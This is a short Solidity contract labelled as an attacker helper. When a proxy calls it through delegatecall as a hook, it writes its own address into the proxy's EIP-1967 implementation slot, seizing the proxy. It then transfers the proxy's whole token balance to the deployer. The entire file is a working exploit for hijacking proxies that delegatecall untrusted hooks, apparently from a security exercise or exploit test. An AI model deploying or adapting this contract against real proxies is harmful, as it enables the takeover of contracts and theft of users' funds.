// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @notice Attacker helper: as a hook, it points the proxy at itself; as the implementation, it
///         hands the inventory to its author.
contract Swapper {
    bytes32 private constant IMPL = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    address private immutable author;
    address private immutable self;

    constructor() {
        author = msg.sender;
        self = address(this);
    }

    function settle() external {
        address target = self; // immutables live in code: still this contract under delegatecall
        assembly {
            sstore(IMPL, target)
        }
    }

    function take(IERC20 token) external {
        token.transfer(author, token.balanceOf(address(this)));
    }
}
